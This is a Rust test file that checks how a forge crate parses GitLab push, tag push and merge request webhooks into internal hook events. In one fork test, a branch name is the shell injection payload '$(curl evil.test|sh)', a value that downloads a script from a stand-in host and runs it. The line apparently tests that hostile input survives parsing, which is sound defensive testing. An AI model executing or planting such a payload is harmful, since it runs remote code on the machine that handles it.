//! GitLab: Push Hook, Tag Push Hook and Merge Request Hook payloads shaped after GitLab's
//! "Webhook events" documentation (tests/fixtures/gitlab).

use serde_json::{Value, json};
use wharf_forge::{Delivery, ForgeKind, Hook, PrAction};

use crate::support::{body, fixture, headers, parse_as};

const AFTER: &str = "9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b";
const ZERO: &str = "0000000000000000000000000000000000000000";

fn hook(event: &str, value: &Value) -> Hook {
    parse_as(ForgeKind::Gitlab, event, value).unwrap().hook
}

#[test]
fn a_push_hook_is_a_branch_push_with_the_last_commits_message() {
    let value = fixture("gitlab/push.json");
    let h = headers(&[
        ("X-Gitlab-Event", "Push Hook"),
        (
            "X-Gitlab-Event-UUID",
            "13792a34-cac6-4fda-95a8-c58e00a3954e",
        ),
        ("Idempotency-Key", "f0c7a5d2-2a7e-4d3e-9f55-3a0f6f1ef0a1"),
        ("X-Gitlab-Instance", "https://gitlab.example.test"),
    ]);
    let delivery = wharf_forge::parse(ForgeKind::Gitlab, &h, &body(&value)).unwrap();
    assert_eq!(
        delivery,
        Delivery {
            id: Some("f0c7a5d2-2a7e-4d3e-9f55-3a0f6f1ef0a1".into()),
            event_type: "Push Hook".into(),
            hook: Hook::Push {
                branch: "main".into(),
                sha: AFTER.into(),
                before: "3f1c5b6e7d8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c".into(),
                message: Some(
                    "Wire the health check into the router\n\nSo the proxy can probe it.\n".into()
                ),
                actor: Some("dana".into()),
            },
        }
    );
    // Older GitLab sends only the event UUID.
    let h = headers(&[
        ("X-Gitlab-Event", "Push Hook"),
        (
            "X-Gitlab-Event-UUID",
            "13792a34-cac6-4fda-95a8-c58e00a3954e",
        ),
    ]);
    let delivery = wharf_forge::parse(ForgeKind::Gitlab, &h, &body(&value)).unwrap();
    assert_eq!(
        delivery.id.as_deref(),
        Some("13792a34-cac6-4fda-95a8-c58e00a3954e")
    );
}

#[test]
fn a_push_without_commits_has_no_message() {
    let mut value = fixture("gitlab/push.json");
    value["commits"] = json!([]);
    let Hook::Push { message, .. } = hook("Push Hook", &value) else {
        panic!("not a push");
    };
    assert_eq!(message, None);
}

#[test]
fn a_tag_push_hook_is_a_tag_on_the_checked_out_commit() {
    let value = fixture("gitlab/tag_push.json");
    // `after` is the annotated tag object; `checkout_sha` the commit it points at.
    assert_eq!(
        hook("Tag Push Hook", &value),
        Hook::Tag {
            tag: "v1.4.0".into(),
            sha: AFTER.into(),
            actor: Some("dana".into()),
        }
    );
    let mut light = value.clone();
    light["checkout_sha"] = Value::Null;
    let Hook::Tag { sha, .. } = hook("Tag Push Hook", &light) else {
        panic!("not a tag");
    };
    assert_eq!(sha, "c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00");
}

#[test]
fn a_deleted_branch_or_tag_is_a_deletion() {
    let mut value = fixture("gitlab/push.json");
    value["after"] = json!(ZERO);
    value["checkout_sha"] = Value::Null;
    value["commits"] = json!([]);
    assert_eq!(
        hook("Push Hook", &value),
        Hook::Deleted {
            reference: "refs/heads/main".into()
        }
    );
    let mut tag = fixture("gitlab/tag_push.json");
    tag["before"] = json!(AFTER);
    tag["after"] = json!(ZERO);
    tag["checkout_sha"] = Value::Null;
    assert_eq!(
        hook("Tag Push Hook", &tag),
        Hook::Deleted {
            reference: "refs/tags/v1.4.0".into()
        }
    );
}

#[test]
fn an_opened_merge_request_starts_a_run() {
    let value = fixture("gitlab/merge_request_open.json");
    assert_eq!(
        hook("Merge Request Hook", &value),
        Hook::PullRequest {
            number: 17,
            action: PrAction::Opened,
            sha: "ab12cd34ef56ab12cd34ef56ab12cd34ef56ab12".into(),
            head_branch: "retry-push".into(),
            base_branch: "main".into(),
            fork: false,
            title: Some("Retry the registry push".into()),
            actor: Some("sam".into()),
        }
    );
    let mut reopened = value.clone();
    reopened["object_attributes"]["action"] = json!("reopen");
    let Hook::PullRequest { action, .. } = hook("Merge Request Hook", &reopened) else {
        panic!("not a pull request");
    };
    assert_eq!(action, PrAction::Reopened);
}

#[test]
fn an_update_with_new_commits_is_a_synchronize() {
    let value = fixture("gitlab/merge_request_update.json");
    let Hook::PullRequest {
        action,
        sha,
        number,
        ..
    } = hook("Merge Request Hook", &value)
    else {
        panic!("not a pull request");
    };
    assert_eq!(action, PrAction::Synchronized);
    assert_eq!(sha, "fe98dc76ba54fe98dc76ba54fe98dc76ba54fe98");
    assert_eq!(number, 17);
}

#[test]
fn an_update_without_new_commits_is_ignored() {
    let value = fixture("gitlab/merge_request_update_title.json");
    assert_eq!(
        hook("Merge Request Hook", &value),
        Hook::Ignored {
            reason: "merge request update without new commits".into()
        }
    );
    // New commits on a merge request that is no longer open do not start a run either.
    let mut merged = fixture("gitlab/merge_request_update.json");
    merged["object_attributes"]["state"] = json!("merged");
    assert_eq!(
        hook("Merge Request Hook", &merged),
        Hook::Ignored {
            reason: "merge request update while it is `merged`".into()
        }
    );
}

#[test]
fn other_merge_request_actions_are_ignored() {
    for action in ["close", "merge", "approved", "unapproved", "approval"] {
        let mut value = fixture("gitlab/merge_request_open.json");
        value["object_attributes"]["action"] = json!(action);
        assert_eq!(
            hook("Merge Request Hook", &value),
            Hook::Ignored {
                reason: format!("merge request action `{action}`")
            }
        );
    }
}

#[test]
fn a_merge_request_from_another_project_is_a_fork() {
    let value = fixture("gitlab/merge_request_fork.json");
    let Hook::PullRequest {
        fork, head_branch, ..
    } = hook("Merge Request Hook", &value)
    else {
        panic!("not a pull request");
    };
    assert!(fork);
    assert_eq!(head_branch, "$(curl evil.test|sh)");
    // Without project ids, the paths decide; without either, it is assumed a fork.
    let mut by_path = value.clone();
    let attrs = by_path["object_attributes"].as_object_mut().unwrap();
    attrs.remove("source_project_id");
    attrs.remove("target_project_id");
    let Hook::PullRequest { fork, .. } = hook("Merge Request Hook", &by_path) else {
        panic!("not a pull request");
    };
    assert!(fork);
    let mut same = fixture("gitlab/merge_request_open.json");
    let attrs = same["object_attributes"].as_object_mut().unwrap();
    attrs.remove("source_project_id");
    let Hook::PullRequest { fork, .. } = hook("Merge Request Hook", &same) else {
        panic!("not a pull request");
    };
    assert!(!fork, "same path_with_namespace");
    let attrs = same["object_attributes"].as_object_mut().unwrap();
    attrs.remove("source");
    let Hook::PullRequest { fork, .. } = hook("Merge Request Hook", &same) else {
        panic!("not a pull request");
    };
    assert!(fork, "nothing to compare: assumed a fork");
}

#[test]
fn other_gitlab_events_are_ignored_without_reading_the_body() {
    for event in ["Note Hook", "Pipeline Hook", "Issue Hook", "System Hook"] {
        let delivery =
            crate::support::parse_bytes(ForgeKind::Gitlab, event, b"\x00 not json").unwrap();
        assert_eq!(
            delivery.hook,
            Hook::Ignored {
                reason: format!("event type `{event}`")
            }
        );
    }
}

#[test]
fn a_merge_request_missing_what_a_run_needs_says_what() {
    let mut value = fixture("gitlab/merge_request_open.json");
    value["object_attributes"]
        .as_object_mut()
        .unwrap()
        .remove("last_commit");
    assert_eq!(
        parse_as(ForgeKind::Gitlab, "Merge Request Hook", &value)
            .unwrap_err()
            .to_string(),
        "the `Merge Request Hook` payload has no `object_attributes.last_commit.id`"
    );
    let e = parse_as(
        ForgeKind::Gitlab,
        "Merge Request Hook",
        &json!({"object_kind": "merge_request"}),
    )
    .unwrap_err();
    assert_eq!(
        e.to_string(),
        "the `Merge Request Hook` payload has no `object_attributes`"
    );
    let mut value = fixture("gitlab/merge_request_open.json");
    value["object_attributes"]["iid"] = json!("17");
    let e = parse_as(ForgeKind::Gitlab, "Merge Request Hook", &value).unwrap_err();
    assert!(
        e.to_string().starts_with(
            "the `Merge Request Hook` payload is not valid JSON for that event: invalid type: string \"17\", expected u64"
        ),
        "{e}"
    );
}
